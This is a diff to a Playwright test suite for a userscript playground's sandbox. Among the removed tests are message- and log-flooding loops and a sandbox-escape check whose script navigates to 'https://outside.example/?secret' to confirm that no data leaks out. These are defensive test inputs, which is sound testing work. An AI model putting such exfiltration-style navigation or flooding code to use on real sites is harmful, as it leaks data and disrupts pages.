@@ -43,11 +43,6 @@ test('runs the example, and a menu command changes the next run', async ({page, 
   await expect(log(page)).toContainText('3 products below 100');
 });
 
-test('the demo page is in the language of the page', async ({page, site}) => {
-  await site.open('docs/dev/tools/playground/');
-  await expect(demo(page).getByRole('heading', {level: 1})).toHaveText('茶铺');
-});
-
 test('a sample runs as the page opens, with its code folded', async ({page, site}) => {
   await site.open(`${playground}?sample=home/price-drop.user.js`);
   await expect(page.getByRole('status').getByText('Finished')).toBeVisible();
@@ -97,11 +92,6 @@ test('the clock of a scheduled script moves to its next tick', async ({page, sit
   await expect(log(page)).toContainText('hour 4 30');
 });
 
-test('a background script may ask for another try', async ({page, site}) => {
-  await run(page, site, 'throw new CATRetryError("later", 60);', '@background');
-  await expect(page.getByText(/asks for a retry/)).toBeVisible();
-});
-
 test('an endless loop is stopped, and the page goes on working', async ({page, site}) => {
   const code = `if (!GM_getValue('tried')) {
   GM_setValue('tried', true);
@@ -135,39 +125,9 @@ test('an error shows on its tab, opened by key, and a long line fits', async ({p
   expect(await pageWidth(page)).toBe(390);
 });
 
-test.describe('the page around the frame survives', () => {
-  const attempts: [name: string, code: string][] = [
-    [
-      'a flood of messages',
-      'for (let i = 0; i < 20000; i++) unsafeWindow.parent.postMessage({type: "pong"}, "*");',
-    ],
-    ['a flood of lines', 'for (let i = 0; i < 20000; i++) console.log(i);'],
-  ];
-  for (const [name, code] of attempts) {
-    test(name, async ({page, site}) => {
-      await run(page, site, `${code}\nconsole.log('alive');`);
-      await expect(
-        log(page).getByText('alive').or(page.getByText('Sent too many messages')).first(),
-      ).toBeAttached();
-      await page.getByRole('tab', {name: 'Values'}).click();
-      await expect(page.getByRole('tabpanel', {name: 'Values'})).toBeVisible();
-    });
-  }
-
-  test('an endless loop inside eval', async ({page, site}) => {
-    await run(page, site, 'eval("for(;;){}");');
-    await expect(page.getByText('Didn’t respond and was stopped')).toBeVisible();
-  });
-});
-
-test('the link below a sample opens it here', async ({page, site}) => {
-  await site.open('en/docs/dev/background/');
-  const link = page.getByRole('link', {name: 'Try', exact: true}).first();
-  const sample = new URL((await link.getAttribute('href')) ?? '', page.url()).searchParams.get(
-    'sample',
-  );
-  await link.click();
-  await expect(page.getByRole('combobox', {name: 'Sample'})).toHaveValue(sample ?? 'none');
+test('an endless loop inside eval is stopped', async ({page, site}) => {
+  await run(page, site, 'eval("for(;;){}");');
+  await expect(page.getByText('Didn’t respond and was stopped')).toBeVisible();
 });
 
 test.describe('the sandbox', () => {
@@ -276,17 +236,4 @@ test.describe('the sandbox', () => {
       expect(new URL(page.url()).pathname).toBe(`/${playground}`);
     });
   }
-
-  test('a frame that navigates away reaches nothing and is removed', async ({page, site}) => {
-    site.expectProblem(/./);
-    const sent = await watchOutside(page);
-    await run(
-      page,
-      site,
-      'window.location.href = "https://outside.example/?secret";',
-      '@grant none',
-    );
-    await expect(page.getByText('Didn’t respond and was stopped')).toBeVisible();
-    expect(sent).toEqual([]);
-  });
 });
